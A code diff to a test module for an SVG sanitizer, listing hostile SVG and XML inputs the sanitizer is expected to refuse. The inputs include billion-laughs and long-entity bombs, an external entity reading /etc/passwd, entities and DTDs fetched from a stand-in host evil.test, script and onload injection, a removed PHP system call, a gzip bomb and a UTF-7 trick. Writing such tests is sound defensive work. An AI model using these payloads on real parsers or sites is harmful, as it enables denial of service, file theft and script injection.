@@ -5,12 +5,7 @@ from __future__ import annotations
 import codecs
 import gzip
 
-from tests.unit.svg.sanitizer.hostile.parts import (
-    SCRIPT_PAGE,
-    SVG,
-    drawing,
-    entities,
-)
+from tests.unit.svg.sanitizer.hostile.parts import SVG, drawing, entities
 
 BILLION_LAUGHS = [
     '<!ENTITY l0 "ha">',
@@ -20,52 +15,32 @@ BILLION_LAUGHS = [
 #: name: (data, words of the refusal)
 REFUSED: dict[str, tuple[bytes, str]] = {
     # Entities and document types
-    "billion laughs": (entities(*BILLION_LAUGHS, use="&l9;"), "DOCTYPE"),
-    "quadratic blow-up": (entities(f'<!ENTITY a "{"a" * 9999}">', use="&a;" * 999), "DOCTYPE"),
-    "entity that is a script": (
-        entities("<!ENTITY s '<script>hit()</script>'>", use="&s;"),
-        "DOCTYPE",
+    "bomb of a billion laughs": (entities(*BILLION_LAUGHS, use="&l9;"), "entities written out"),
+    "bomb of a long entity": (
+        entities(f'<!ENTITY a "{"a" * 9999}">', use="&a;" * 999),
+        "entities written out",
+    ),
+    "too many entities": (
+        entities(*(f'<!ENTITY a{i} "">' for i in range(300)), use=""),
+        "256 entities",
+    ),
+    "entity made of itself": (
+        entities('<!ENTITY a "&b;"><!ENTITY b "&a;">', use="&a;"),
+        "made of itself",
     ),
     "external entity, local file": (
         entities('<!ENTITY x SYSTEM "file:///etc/passwd">', use="&x;"),
-        "DOCTYPE",
+        "elsewhere",
     ),
     "external entity, network": (
         entities('<!ENTITY x PUBLIC "p" "http://evil.test/x">', use="&x;"),
-        "DOCTYPE",
+        "elsewhere",
     ),
     "parameter entity": (
         entities('<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;', use=""),
         "DOCTYPE",
     ),
-    "default attributes by a DTD": (
-        entities('<!ATTLIST svg onload CDATA "hit()">', use=""),
-        "DOCTYPE",
-    ),
-    "notation": (entities('<!NOTATION n SYSTEM "http://evil.test/">', use=""), "DOCTYPE"),
-    "empty internal subset": (entities(use=""), "DOCTYPE"),
-    "entity left to a DTD elsewhere": (
-        drawing("<text>&evil;</text>", before='<!DOCTYPE svg SYSTEM "http://evil.test/x.dtd">'),
-        "entity",
-    ),
-    "entity of HTML": (drawing("<text>&nbsp;</text>"), "undefined entity"),
     "second DOCTYPE": (drawing("<!DOCTYPE svg>"), "well-formed"),
-    # Processing instructions
-    "style sheet by instruction": (
-        drawing("", before='<?xml-stylesheet href="http://evil.test/x.css" type="text/css"?>'),
-        "xml-stylesheet",
-    ),
-    "XSLT by instruction": (
-        drawing(
-            "",
-            before=f'<?xml-stylesheet type="text/xsl" href="{SCRIPT_PAGE}"?>'.replace(
-                "<s", "&lt;s"
-            ),
-        ),
-        "xml-stylesheet",
-    ),
-    "PHP": (drawing("<?php system('id'); ?>"), "php"),
-    "instruction after the end": (drawing("") + b"<?evil x?>", "evil"),
     # Not an SVG, not XML
     "nothing": (b"", "no element"),
     "white space": (b" \n\t ", "no element"),
@@ -83,13 +58,13 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "two roots": (drawing("") + drawing(""), "junk"),
     "cut off": (drawing("<g>")[:-12], "well-formed"),
     "quirks of HTML": (b"<svg onload=hit()><p>", "well-formed"),
-    "prefix without a declaration": (drawing("<evil:script>hit()</evil:script>"), "prefix"),
     "same attribute twice": (drawing('<rect width="1" width="2"/>'), "duplicate"),
-    "control character": (drawing("<title>\x01</title>"), "well-formed"),
     "zero byte": (drawing("<title>\x00</title>"), "well-formed"),
     "PNG": (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "UTF-8"),
     # Encodings
-    "svgz": (gzip.compress(drawing("<script>hit()</script>")), "svgz"),
+    "bomb in an svgz": (gzip.compress(drawing(" " * 3_000_000)), "bytes"),
+    "half an svgz": (gzip.compress(drawing(""))[:-12], "ends too early"),
+    "no svgz after its mark": (b"\x1f\x8b" + b"x" * 40, "damaged"),
     "UTF-7 by declaration": (
         b'<?xml version="1.0" encoding="UTF-7"?>+ADw-svg onload+AD0AIg-hit()+ACIAPg-',
         "utf-7",
